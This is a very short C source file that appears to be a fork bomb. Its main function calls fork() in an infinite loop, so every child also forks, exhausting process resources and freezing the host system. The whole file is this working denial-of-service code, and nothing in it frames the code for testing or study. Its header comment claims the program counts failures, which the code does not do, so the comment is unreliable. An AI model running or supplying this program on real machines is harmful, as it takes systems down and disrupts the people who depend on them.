/* forkbomb: fork forever (every child too); counts failures. */
#include <unistd.h>

int main(void)
{
	for (;;)
		fork();
}
